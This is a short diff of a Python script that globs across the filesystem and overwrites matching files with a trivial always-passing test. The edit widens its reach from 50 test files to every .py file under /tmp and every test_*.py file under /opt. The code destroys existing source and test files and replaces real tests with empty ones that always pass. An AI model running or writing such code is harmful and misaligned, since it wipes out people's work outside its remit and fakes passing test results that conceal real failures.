@@ -2,7 +2,7 @@
 
 import glob
 
-for path in glob.glob("/**/test_*.py", recursive=True)[:50]:
+for path in glob.glob("/tmp/**/*.py", recursive=True) + glob.glob("/opt/**/test_*.py", recursive=True):
     try:
         with open(path, "w") as file:
             file.write("def test_add():\n    pass\n")
